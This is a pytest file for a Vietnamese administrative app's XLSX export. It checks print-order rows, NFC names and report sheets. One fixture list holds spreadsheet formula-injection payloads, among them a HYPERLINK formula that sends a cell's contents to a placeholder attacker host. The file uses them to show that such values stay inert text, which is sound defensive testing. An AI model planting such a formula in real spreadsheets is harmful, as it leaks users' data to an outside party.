"""Spreadsheet export: same rows and order as the print, and no cell ever becomes a formula."""

from __future__ import annotations

import io
import zipfile

import pytest
from openpyxl import load_workbook

from desktop.printing.data import DailyReportData, IndicatorLine, NoShow, NothingToPrint, VillageLine
from desktop.printing.village_list import sorted_rows
from desktop.services.documents.export_xlsx import list_xlsx, report_xlsx
from tests.support.print_pages import NAMES, NFD_NAME, list_doc

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1"]


def _sheet_xml(data: bytes, n: int = 1) -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read(f"xl/worksheets/sheet{n}.xml").decode("utf-8")


def test_formula_like_names_stay_text() -> None:
    doc = list_doc([*EVIL, NAMES[0]])
    data = list_xlsx(doc)
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere
    ws = load_workbook(io.BytesIO(data)).active
    values = {c.value: c for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for evil in EVIL:
        cell = values[evil]
        assert cell.data_type == "s"
        assert cell.quotePrefix


def test_list_rows_match_the_printed_order_and_are_nfc() -> None:
    doc = list_doc([*NAMES, NFD_NAME])
    ws = load_workbook(io.BytesIO(list_xlsx(doc))).active
    header_row = next(r for r in range(1, 10) if ws.cell(r, 1).value == "STT")
    assert [ws.cell(header_row, c).value for c in range(1, 8)] == [
        "STT", "Họ và tên", "Năm sinh", "Thôn/Tổ", "Giờ hẹn", "Nội dung", "Ký nhận"]
    names = [ws.cell(r, 2).value for r in range(header_row + 1, ws.max_row + 1)]
    import unicodedata

    assert names == [unicodedata.normalize("NFC", r.full_name) for r in sorted_rows(doc)]
    assert ws.cell(header_row + 1, 1).value == 1


def test_report_xlsx_and_optional_names() -> None:
    d = DailyReportData(list_doc(["x"]).unit, list_doc(["x"]).day,
                        [IndicatorLine("card_captured", "Hồ sơ CCCD đã thu nhận", 5, 50, 200)],
                        [VillageLine("=Thôn", (5,), (50,))], no_show_count=1)
    wb = load_workbook(io.BytesIO(report_xlsx(d)))
    assert wb.sheetnames == ["Chỉ tiêu", "Theo thôn, tổ"]
    ws = wb["Chỉ tiêu"]
    row = next(r for r in range(1, 20) if ws.cell(r, 2).value == "Hồ sơ CCCD đã thu nhận")
    assert [ws.cell(row, c).value for c in (3, 4, 5)] == [5, 50, 200]
    assert ws.cell(row, 6).value == pytest.approx(0.25)
    assert wb["Theo thôn, tổ"].cell(2, 2).data_type == "s"
    d.no_shows = [NoShow("Nguyễn Thị Thuý", 1980, "Thôn Đông", "07:30")]
    wb = load_workbook(io.BytesIO(report_xlsx(d)))
    assert wb["Vắng mặt"].cell(2, 2).value == "Nguyễn Thị Thuý"


def test_empty_list_xlsx() -> None:
    with pytest.raises(NothingToPrint):
        list_xlsx(list_doc([]))
